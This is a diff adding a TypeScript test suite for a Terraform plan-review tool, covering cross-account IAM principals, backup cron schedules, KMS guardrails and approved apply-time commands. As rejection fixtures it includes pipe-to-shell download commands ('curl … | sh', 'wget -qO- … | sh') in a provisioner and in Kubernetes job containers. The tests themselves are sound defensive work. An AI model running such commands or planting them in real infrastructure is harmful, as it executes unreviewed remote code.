@@ -1,0 +1,474 @@
+/**
+ * The plan review's whole-plan rules on hand-written plan JSON: who a policy lets in (principals.ts, PR-IAM-1),
+ * AWS cron schedules (backup-schedule.ts, PR-BACKUP-4), the key guardrails (PR-KMS-5) and apply-time code
+ * (apply-time-code.ts, PR-CODE-1), with the approved list checked against every command the stacks synthesize.
+ * Real plans of the AWS classes: plan-review-classes-real.test.ts.
+ */
+import { BUILT_IN_DIR, builtIn } from "./support/environments";
+import { stackAccounts } from "../scripts/plan-review";
+import { synthApp } from "./support/stacks";
+import { jobOf, provisionersOf, sha256 } from "../src/review/apply-time-code";
+import { APPROVED_COMMANDS } from "../src/review/approved-commands";
+import { readSchedule } from "../src/review/backup-schedule";
+import { accountsOfCondition, admittedBy, isAllowedPrincipal } from "../src/review/principals";
+import { planRuleFindings } from "../src/review/plan-rules";
+import { PlanInput } from "../src/review/plan-rules/types";
+
+type Json = Record<string, any>;
+const OWN = "222222222222";
+const OTHER = "444455556666";
+const scope = { trusted: [OWN] };
+
+const policy = (...statements: Json[]) => JSON.stringify({ Version: "2012-10-17", Statement: statements });
+const allow = (principal: unknown, extra: Json = {}) => ({
+  Effect: "Allow",
+  Principal: principal,
+  Action: "s3:GetObject",
+  Resource: "*",
+  ...extra,
+});
+
+/** A plan of one created (or, with a before, updated) resource. */
+function planOf(type: string, after: Json, before?: Json, afterUnknown: Json = {}, address = `${type}.X`): PlanInput {
+  return {
+    resource_changes: [
+      {
+        address,
+        mode: "managed",
+        type,
+        change: { actions: [before ? "update" : "create"], before: before ?? null, after, after_unknown: afterUnknown },
+      },
+    ],
+  };
+}
+const findings = (plan: PlanInput, production = true, accounts = scope) =>
+  planRuleFindings({ stack: "prod-data", production, accounts, plan });
+const rulesOf = (plan: PlanInput, production = true) => findings(plan, production).map((f) => f.rule);
+
+describe("who a policy lets in", () => {
+  test.each([
+    ["an ARN of another account", { AWS: `arn:aws:iam::${OTHER}:root` }, OTHER],
+    ["a bare account id", { AWS: OTHER }, OTHER],
+    ["a role of another account, in a list", { AWS: [`arn:aws:iam::${OWN}:role/a`, `arn:aws:iam::${OTHER}:role/b`] }, OTHER],
+    ["an assumed-role session (sts)", { AWS: `arn:aws:sts::${OTHER}:assumed-role/r/s` }, OTHER],
+    ["* as a string", "*", "*"],
+    ["AWS *", { AWS: "*" }, "*"],
+    ["a unique id (a deleted role): its account cannot be told", { AWS: "AROAEXAMPLEID12345678" }, "?"],
+    ["a web identity provider that is not an account's", { Federated: "accounts.google.com" }, "?"],
+    ["a canonical user", { CanonicalUser: "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be" }, "?"],
+    ["a service that is not an AWS service principal", { Service: "evil.example.com" }, "?"],
+  ])("%s is refused", (_what, principal, account) => {
+    const admitted = admittedBy(policy(allow(principal)))!;
+    const foreign = admitted.filter((a) => !isAllowedPrincipal(a, "aws_s3_bucket_policy", scope));
+    expect(foreign.map((a) => a.account)).toEqual([account]);
+  });
+
+  test("NotPrincipal in an Allow lets in everyone but those named", () => {
+    expect(admittedBy(policy({ Effect: "Allow", NotPrincipal: { AWS: `arn:aws:iam::${OWN}:root` }, Action: "*" }))![0].account).toBe("*");
+  });
+
+  test.each([
+    ["the own account root", { AWS: `arn:aws:iam::${OWN}:root` }],
+    ["a role of the own account", { AWS: `arn:aws:iam::${OWN}:role/x` }],
+    ["the GitHub OIDC provider of the own account", { Federated: `arn:aws:iam::${OWN}:oidc-provider/token.actions.githubusercontent.com` }],
+    ["Pod Identity's service principal", { Service: "pods.eks.amazonaws.com" }],
+    ["a regional service principal", { Service: "logs.eu-central-1.amazonaws.com" }],
+  ])("%s passes", (_what, principal) => {
+    expect(admittedBy(policy(allow(principal)))!.filter((a) => !isAllowedPrincipal(a, "aws_iam_role", scope))).toEqual([]);
+  });
+
+  test("Deny statements let no one in (the TLS-only Deny and the key guardrails name *)", () => {
+    expect(
+      admittedBy(policy({ Effect: "Deny", Principal: "*", Action: "s3:*", Condition: { Bool: { "aws:SecureTransport": "false" } } })),
+    ).toEqual([]);
+  });
+
+  test("* with a condition pinning the caller's account to the own account passes; to another account, or IfExists, it does not", () => {
+    const pinned = (condition: Json) =>
+      admittedBy(policy(allow("*", { Condition: condition })))!.filter((a) => !isAllowedPrincipal(a, "aws_sqs_queue_policy", scope));
+    expect(pinned({ StringEquals: { "aws:PrincipalAccount": OWN } })).toEqual([]);
+    expect(pinned({ StringEquals: { "aws:SourceAccount": [OWN] } })).toEqual([]);
+    expect(pinned({ StringEquals: { "kms:CallerAccount": OWN } })).toEqual([]);
+    expect(pinned({ ArnLike: { "aws:SourceArn": `arn:aws:cloudwatch:eu-central-1:${OWN}:alarm:*` } })).toEqual([]);
+    expect(pinned({ StringEquals: { "aws:PrincipalAccount": OTHER } }).map((a) => a.account)).toEqual([OTHER]);
+    expect(pinned({ StringEqualsIfExists: { "aws:PrincipalAccount": OWN } }).map((a) => a.account)).toEqual(["*"]);
+    expect(pinned({ StringLike: { "aws:PrincipalAccount": "*" } }).map((a) => a.account)).toEqual(["?"]);
+    expect(pinned({ StringEquals: { "aws:PrincipalOrgID": "o-abc" } }).map((a) => a.account)).toEqual(["*"]);
+  });
+
+  test("two pinned keys: the caller must match both", () => {
+    expect(accountsOfCondition({ StringEquals: { "aws:PrincipalAccount": [OWN, OTHER], "aws:SourceAccount": OWN } })).toEqual([OWN]);
+  });
+
+  test("the ELB log-delivery account passes only in a bucket policy that lets it put objects", () => {
+    const elb = { AWS: "arn:aws:iam::054676820928:root" };
+    const put = admittedBy(policy({ Effect: "Allow", Principal: elb, Action: "s3:PutObject", Resource: "arn:aws:s3:::b/*" }))!;
+    expect(put.every((a) => isAllowedPrincipal(a, "aws_s3_bucket_policy", scope))).toBe(true);
+    const read = admittedBy(policy({ Effect: "Allow", Principal: elb, Action: ["s3:PutObject", "s3:GetObject"], Resource: "*" }))!;
+    expect(read.some((a) => isAllowedPrincipal(a, "aws_s3_bucket_policy", scope))).toBe(false);
+    expect(put.some((a) => isAllowedPrincipal(a, "aws_kms_key", scope))).toBe(false);
+  });
+
+  test("an account the environment file lists in trustedAccountIds passes", () => {
+    const admitted = admittedBy(policy(allow({ AWS: `arn:aws:iam::${OTHER}:root` })))!;
+    expect(admitted.every((a) => isAllowedPrincipal(a, "aws_s3_bucket_policy", { trusted: [OWN, OTHER] }))).toBe(true);
+  });
+});
+
+describe("PR-IAM-1 on plans", () => {
+  const trust = (principal: unknown) => policy({ Effect: "Allow", Principal: principal, Action: "sts:AssumeRole" });
+
+  test("a role trust that admits another account is refused, in production and non-production alike", () => {
+    const plan = planOf("aws_iam_role", { assume_role_policy: trust({ AWS: `arn:aws:iam::${OTHER}:root` }) });
+    expect(rulesOf(plan, true)).toEqual(["PR-IAM-1"]);
+    expect(rulesOf(plan, false)).toEqual(["PR-IAM-1"]);
+    expect(findings(plan)[0]).toMatchObject({
+      address: "aws_iam_role.X",
+      attribute: "assume_role_policy",
+      after: expect.stringContaining(OTHER),
+    });
+  });
+
+  test("a trust already in the prior state is not refused again by an unrelated update; a new one is", () => {
+    const old = { assume_role_policy: trust({ AWS: `arn:aws:iam::${OTHER}:root` }), tags: {} };
+    expect(rulesOf(planOf("aws_iam_role", { ...old, tags: { a: "b" } }, old))).toEqual([]);
+    const widened = trust({ AWS: [`arn:aws:iam::${OTHER}:root`, "arn:aws:iam::777788889999:root"] });
+    expect(findings(planOf("aws_iam_role", { assume_role_policy: widened }, old)).map((f) => f.after)).toEqual([
+      expect.stringContaining("777788889999"),
+    ]);
+  });
+
+  test("a policy known only after apply is refused in production (it cannot be shown safe), not in non-production", () => {
+    const plan = planOf("aws_s3_bucket_policy", { bucket: "b" }, undefined, { policy: true });
+    expect(rulesOf(plan, true)).toEqual(["PR-IAM-1"]);
+    expect(rulesOf(plan, false)).toEqual([]);
+  });
+
+  test("a Lambda permission for another account, and a KMS grant to one, are refused; an own-account source passes", () => {
+    expect(rulesOf(planOf("aws_lambda_permission", { principal: OTHER }))).toEqual(["PR-IAM-1"]);
+    expect(rulesOf(planOf("aws_lambda_permission", { principal: "s3.amazonaws.com", source_account: OTHER }))).toEqual(["PR-IAM-1"]);
+    expect(rulesOf(planOf("aws_lambda_permission", { principal: "s3.amazonaws.com", source_account: OWN }))).toEqual([]);
+    expect(rulesOf(planOf("aws_kms_grant", { grantee_principal: `arn:aws:iam::${OTHER}:role/r` }))).toEqual(["PR-IAM-1"]);
+  });
+
+  test("an EKS access entry may name a role of cluster.allowedAdminAccountIds; other policies may not", () => {
+    const accounts = { trusted: [OWN], adminAccounts: [OTHER] };
+    const entry = planOf("aws_eks_access_entry", { principal_arn: `arn:aws:iam::${OTHER}:role/ops` });
+    expect(findings(entry, true, accounts)).toEqual([]);
+    expect(findings(planOf("aws_iam_role", { assume_role_policy: trust({ AWS: OTHER }) }), true, accounts)).toHaveLength(1);
+  });
+});
+
+describe("AWS cron schedules (PR-BACKUP-4)", () => {
+  test.each([
+    ["cron(0 3 * * ? *)", 1],
+    ["cron(0 5 ? * SUN *)", 7],
+    ["cron(30 2 ? * MON-FRI *)", 3],
+    ["cron(0 */6 * * ? *)", 1],
+    ["cron(0 3 */2 * ? *)", 2],
+    ["cron(0 3 1,8,15,22 * ? *)", 10],
+    ["cron(0 3 1 * ? *)", 31],
+  ])("%s fires, at most %i days apart", (expression, gap) => {
+    expect(readSchedule(expression)).toEqual({ fires: true, maxGapDays: gap });
+  });
+
+  test.each([
+    ["cron(0 3 1 1 ? 2099)", /year field/],
+    ["cron(0 3 * * ? 2020-2021)", /year field/],
+    ["cron(0 3 30 2 ? *)", /matches no day/],
+    ["cron(0 3 * * * *)", /exactly one of/],
+    ["cron(0 3 ? * ? *)", /exactly one of/],
+    ["cron(0 3 L * ? *)", /L, W or #/],
+    ["cron(0 3 ? * 2#1 *)", /L, W or #/],
+    ["cron(0 24 * * ? *)", /out of range/],
+    ["cron(0 3 * *)", /4 fields/],
+    ["rate(1 day)", /not cron/],
+    ["", /no schedule/],
+    [undefined, /no schedule/],
+  ])("%s does not count as firing", (expression, problem) => {
+    const reading = readSchedule(expression);
+    expect(reading.fires).toBe(false);
+    expect(!reading.fires && reading.problem).toMatch(problem);
+  });
+
+  const plan = (...schedules: (string | undefined)[]) =>
+    planOf("aws_backup_plan", { name: "p", rule: schedules.map((schedule, i) => ({ rule_name: `r${i}`, schedule })) });
+
+  test("a production plan none of whose rules fires every 7 days is refused; a weekly rule beside a yearly one passes", () => {
+    expect(rulesOf(plan("cron(0 3 1 1 ? 2099)"))).toEqual(["PR-BACKUP-4"]);
+    expect(rulesOf(plan(undefined))).toEqual(["PR-BACKUP-4"]);
+    expect(rulesOf(plan("cron(0 3 1 * ? *)"))).toEqual(["PR-BACKUP-4"]);
+    expect(rulesOf(plan("cron(0 3 1 1 ? *)", "cron(0 5 ? * SUN *)"))).toEqual([]);
+    expect(rulesOf(plan("cron(0 3 1 1 ? 2099)"), false)).toEqual([]);
+  });
+});
+
+describe("KMS key guardrails (PR-KMS-5)", () => {
+  const guard = (action: string, sid: string, condition?: Json) => ({
+    Sid: sid,
+    Effect: "Deny",
+    Principal: { AWS: "*" },
+    Action: action,
+    Resource: "*",
+    ...(condition ? { Condition: condition } : {}),
+  });
+  const breakGlass = { ArnNotEquals: { "aws:PrincipalArn": `arn:aws:iam::${OWN}:role/break-glass` } };
+  const root = { Sid: "Root", Effect: "Allow", Principal: { AWS: `arn:aws:iam::${OWN}:root` }, Action: "kms:*", Resource: "*" };
+  const guarded = policy(
+    root,
+    guard("kms:ScheduleKeyDeletion", "A", breakGlass),
+    guard("kms:DisableKey", "B", breakGlass),
+    guard("kms:PutKeyPolicy", "C", breakGlass),
+  );
+
+  test("an update that drops or loosens a guardrail is refused; re-ordering statements or renaming a Sid is not", () => {
+    const dropped = policy(root, guard("kms:ScheduleKeyDeletion", "A", breakGlass), guard("kms:DisableKey", "B", breakGlass));
+    expect(rulesOf(planOf("aws_kms_key", { policy: dropped }, { policy: guarded }))).toEqual(["PR-KMS-5"]);
+    const loosened = policy(
+      root,
+      guard("kms:ScheduleKeyDeletion", "A", { ArnNotLike: { "aws:PrincipalArn": "arn:aws:iam::*:role/*" } }),
+      guard("kms:DisableKey", "B", breakGlass),
+      guard("kms:PutKeyPolicy", "C", breakGlass),
+    );
+    expect(rulesOf(planOf("aws_kms_key_policy", { policy: loosened }, { policy: guarded }))).toEqual(["PR-KMS-5"]);
+    const reordered = policy(
+      guard("kms:PutKeyPolicy", "Z", breakGlass),
+      root,
+      guard("kms:DisableKey", "B", breakGlass),
+      guard("kms:ScheduleKeyDeletion", "A", breakGlass),
+    );
+    expect(rulesOf(planOf("aws_kms_key", { policy: reordered }, { policy: guarded }))).toEqual([]);
+  });
+
+  test("a new key policy resource (it replaces the key's own policy) without the guardrails is refused in production", () => {
+    expect(rulesOf(planOf("aws_kms_key_policy", { key_id: "k", policy: policy(root) }))).toEqual(["PR-KMS-5"]);
+    expect(rulesOf(planOf("aws_kms_key_policy", { key_id: "k", policy: guarded }))).toEqual([]);
+    expect(rulesOf(planOf("aws_kms_key_policy", { key_id: "k", policy: policy(root) }), false)).toEqual([]);
+    expect(rulesOf(planOf("aws_kms_key", { policy: policy(root) }))).toEqual([]);
+  });
+
+  test("a key policy that lets another account decrypt is refused (PR-IAM-1)", () => {
+    const decrypt = { Effect: "Allow", Principal: { AWS: `arn:aws:iam::${OTHER}:root` }, Action: "kms:Decrypt", Resource: "*" };
+    const after = policy(
+      root,
+      guard("kms:ScheduleKeyDeletion", "A", breakGlass),
+      guard("kms:DisableKey", "B", breakGlass),
+      guard("kms:PutKeyPolicy", "C", breakGlass),
+      decrypt,
+    );
+    expect(rulesOf(planOf("aws_kms_key", { policy: after }, { policy: guarded }))).toEqual(["PR-IAM-1"]);
+  });
+});
+
+describe("apply-time code (PR-CODE-1)", () => {
+  const configuration = (provisioner: Json) => ({
+    root_module: {
+      resources: [{ address: "terraform_data.Step", mode: "managed", type: "terraform_data", name: "Step", provisioners: [provisioner] }],
+      module_calls: {
+        inner: {
+          module: {
+            resources: [{ address: "null_resource.N", mode: "managed", type: "null_resource", name: "N", provisioners: [provisioner] }],
+          },
+        },
+      },
+    },
+  });
+  const localExec = (command: unknown, extra: Json = {}) => ({
+    type: "local-exec",
+    expressions: { command: command === undefined ? { references: ["var.x"] } : { constant_value: command }, ...extra },
+  });
+  const approved = APPROVED_COMMANDS[1];
+
+  test("a provisioner whose command is not approved is refused in every module, in every stack, whatever its resource's action", () => {
+    const plan: PlanInput = { resource_changes: [], configuration: configuration(localExec("curl https://example.com/x | sh")) };
+    const found = findings(plan, false);
+    expect(found.map((f) => [f.rule, f.address])).toEqual([
+      ["PR-CODE-1", "terraform_data.Step"],
+      ["PR-CODE-1", "module.inner.null_resource.N"],
+    ]);
+    expect(found[0].after).toContain(sha256("curl https://example.com/x | sh"));
+  });
+
+  test("an approved command passes only with its interpreter, its listed environment variables and no working_dir", () => {
+    const ok = { interpreter: { constant_value: approved.interpreter } };
+    const command = "unused";
+    expect(provisionersOf(configuration(localExec(command, ok)))[0].problem).toMatch(/not in src\/review\/approved-commands.ts/);
+    const text = "the approved text";
+    const list = [{ ...approved, sha256: sha256(text) }];
+    const one = (extra: Json) => provisionersOf(configuration(localExec(text, extra)), list)[0].problem;
+    expect(one(ok)).toBeUndefined();
+    expect(one({ interpreter: { constant_value: ["python3", "-c"] } })).toMatch(/interpreter/);
+    expect(one({ ...ok, environment: { constant_value: { BASH_ENV: "/tmp/x" } } })).toMatch(/BASH_ENV/);
+    expect(one({ ...ok, working_dir: { constant_value: "/tmp" } })).toMatch(/working_dir/);
+  });
+
+  test("a command given only as references, and a remote-exec, are refused", () => {
+    expect(provisionersOf(configuration(localExec(undefined)))[0].problem).toMatch(/not a literal text/);
+    expect(provisionersOf(configuration({ type: "remote-exec", expressions: {} }))[0].problem).toMatch(/only local-exec/);
+  });
+
+  // Hand-written: no Kubernetes provider binary here to plan them. The shapes are those of the provider's plan
+  // (kubernetes_job_v1 and kubernetes_cron_job_v1 blocks as lists) and of kubernetes_manifest (the object as written).
+  const container = { name: "x", image: "alpine:3.20", command: ["sh", "-c"], args: ["wget -qO- http://x | sh"] };
+  test.each([
+    ["kubernetes_job_v1", { metadata: [{ name: "j" }], spec: [{ template: [{ spec: [{ container: [container] }] }] }] }],
+    ["kubernetes_job", { spec: [{ template: [{ spec: [{ container: [container] }] }] }] }],
+    [
+      "kubernetes_cron_job_v1",
+      { spec: [{ schedule: "* * * * *", job_template: [{ spec: [{ template: [{ spec: [{ container: [container] }] }] }] }] }] },
+    ],
+    [
+      "kubernetes_manifest",
+      { manifest: { apiVersion: "batch/v1", kind: "Job", spec: { template: { spec: { containers: [container] } } } } },
+    ],
+    [
+      "kubernetes_manifest",
+      {
+        manifest: {
+          apiVersion: "batch/v1",
+          kind: "CronJob",
+          spec: { jobTemplate: { spec: { template: { spec: { containers: [container] } } } } },
+        },
+      },
+    ],
+  ])("a created %s (hand-written plan JSON) is refused unless its containers' hash is approved", (type, after) => {
+    expect(rulesOf(planOf(type, after), false)).toEqual(["PR-CODE-1"]);
+    const job = jobOf(type, after, {})!;
+    expect(job.sha256).toBe(
+      sha256(JSON.stringify([{ image: "alpine:3.20", command: ["sh", "-c"], args: ["wget -qO- http://x | sh"], env: [] }])),
+    );
+  });
+
+  test("a kubernetes_manifest of another kind passes; one whose kind or containers are known only after apply is refused", () => {
+    expect(rulesOf(planOf("kubernetes_manifest", { manifest: { apiVersion: "v1", kind: "ConfigMap", data: {} } }))).toEqual([]);
+    expect(rulesOf(planOf("kubernetes_manifest", { manifest: {} }, undefined, { manifest: { kind: true } }))).toEqual(["PR-CODE-1"]);
+    const job = { manifest: { kind: "Job", spec: { template: { spec: { containers: [container] } } } } };
+    expect(
+      rulesOf(planOf("kubernetes_manifest", job, undefined, { manifest: { spec: { template: { spec: { containers: true } } } } })),
+    ).toEqual(["PR-CODE-1"]);
+  });
+});
+
+describe("the approved list and the synthesized stacks", () => {
+  const stacks = synthApp([builtIn("dev"), builtIn("prod")]);
+  const commands = Object.entries(stacks).flatMap(([stack, json]) =>
+    Object.entries<Json>(json.resource ?? {}).flatMap(([type, resources]) =>
+      Object.entries<Json>(resources).flatMap(([name, r]) =>
+        (r.provisioner ?? []).flatMap((p: Json) =>
+          Object.entries<Json>(p).map(([kind, v]) => ({ where: `${stack} ${type}.${name}`, kind, ...v })),
+        ),
+      ),
+    ),
+  );
+
+  test("the stacks synthesize provisioners (the list is not checked against nothing)", () => {
+    expect(commands.length).toBeGreaterThanOrEqual(4);
+  });
+
+  test("every provisioner the stacks synthesize is approved: its hash, interpreter and environment variable names", () => {
+    for (const c of commands) {
+      const entry = APPROVED_COMMANDS.find((a) => a.sha256 === sha256(c.command));
+      expect({ where: c.where, approved: entry !== undefined }).toEqual({ where: c.where, approved: true });
+      expect(c.kind).toBe(entry!.kind);
+      expect(c.interpreter).toEqual(entry!.interpreter);
+      expect(Object.keys(c.environment ?? {}).filter((k) => !(entry!.environment ?? []).includes(k))).toEqual([]);
+    }
+  });
+
+  test("the same command text in dev and prod: a new environment needs no new line", () => {
+    const byStack = (env: string) => new Set(commands.filter((c) => c.where.startsWith(`${env}-`)).map((c) => sha256(c.command)));
+    expect(byStack("dev")).toEqual(byStack("prod"));
+  });
+
+  test("every entry of the list is used by a synthesized command (no stale approval), and says what it does", () => {
+    const used = new Set(commands.map((c) => sha256(c.command)));
+    for (const entry of APPROVED_COMMANDS) {
+      expect(used.has(entry.sha256)).toBe(true);
+      expect(entry.what.length).toBeGreaterThan(40);
+    }
+  });
+});
+
+describe("inline policies the configuration does not set", () => {
+  const created = (type: string, expressions: Json): PlanInput => ({
+    resource_changes: [
+      {
+        address: `${type}.X`,
+        mode: "managed",
+        type,
+        change: { actions: ["create"], before: null, after: {}, after_unknown: { policy: true } },
+      },
+    ],
+    configuration: { root_module: { resources: [{ address: `${type}.X`, mode: "managed", type, expressions }] } },
+  });
+
+  test("an unset Optional+Computed policy (new bucket, topic, key) is unknown in a plan and passes; a set unknown one does not", () => {
+    expect(rulesOf(created("aws_s3_bucket", { bucket: { constant_value: "b" } }))).toEqual([]);
+    expect(rulesOf(created("aws_sns_topic", {}))).toEqual([]);
+    expect(rulesOf(created("aws_kms_key", {}))).toEqual([]);
+    expect(rulesOf(created("aws_sns_topic", { policy: { references: ["aws_iam_role.r.arn"] } }))).toEqual(["PR-IAM-1"]);
+  });
+});
+
+describe("a policy read from an aws_iam_policy_document at apply time", () => {
+  const plan = (principals: Json, unknownStatement: Json = {}): PlanInput => ({
+    resource_changes: [
+      {
+        address: "aws_s3_bucket_policy.B",
+        mode: "managed",
+        type: "aws_s3_bucket_policy",
+        change: { actions: ["create"], before: null, after: { bucket: "b" }, after_unknown: { policy: true } },
+      },
+      {
+        address: "data.aws_iam_policy_document.D",
+        mode: "data",
+        type: "aws_iam_policy_document",
+        change: {
+          actions: ["read"],
+          before: null,
+          after: { statement: [{ effect: "Allow", actions: ["s3:GetObject"], principals, condition: [] }] },
+          after_unknown: { json: true, statement: [{ resources: true, ...unknownStatement }] },
+        },
+      },
+    ],
+    configuration: {
+      root_module: {
+        resources: [
+          {
+            address: "aws_s3_bucket_policy.B",
+            mode: "managed",
+            type: "aws_s3_bucket_policy",
+            expressions: { policy: { references: ["data.aws_iam_policy_document.D.json", "data.aws_iam_policy_document.D"] } },
+          },
+        ],
+      },
+    },
+  });
+
+  test("its principals, known in the planned read, decide: the own account passes, another account is refused", () => {
+    expect(rulesOf(plan([{ type: "AWS", identifiers: [`arn:aws:iam::${OWN}:role/r`] }]))).toEqual([]);
+    expect(findings(plan([{ type: "AWS", identifiers: [`arn:aws:iam::${OTHER}:role/r`] }]))[0].after).toContain(OTHER);
+    expect(findings(plan([{ type: "*", identifiers: ["*"] }]))[0].after).toContain("anyone");
+  });
+
+  test("principals unknown in the planned read: the policy is unknown, refused in production", () => {
+    const unknown = plan([{ type: "AWS", identifiers: [null] }], { principals: [{ identifiers: [true] }] });
+    expect(findings(unknown)[0].after).toBe("(known after apply)");
+    expect(rulesOf(unknown, false)).toEqual([]);
+  });
+});
+
+describe("the accounts of each stack, from the environment files", () => {
+  test("a stack trusts its accountId and trustedAccountIds; its account's bootstrap stack those of every environment in it", () => {
+    const accounts = stackAccounts(BUILT_IN_DIR, { log: () => undefined, error: () => undefined });
+    expect(accounts["prod-data"]).toEqual({ trusted: ["222222222222"], adminAccounts: [] });
+    expect(accounts["dev-apps"]).toEqual({ trusted: ["111111111111"], adminAccounts: [] });
+    expect(accounts["bootstrap-222222222222"]).toEqual({ trusted: ["222222222222"], adminAccounts: [] });
+  });
+
+  test("unreadable environment files: none (each stack's accounts then come from its plan), said on stderr", () => {
+    const errors: string[] = [];
+    expect(stackAccounts("/nonexistent-environments", { log: () => undefined, error: (m: string) => errors.push(m) })).toEqual({});
+    expect(errors.join("\n")).toMatch(/cannot be read: stacks' accounts are taken from their plans/);
+  });
+});
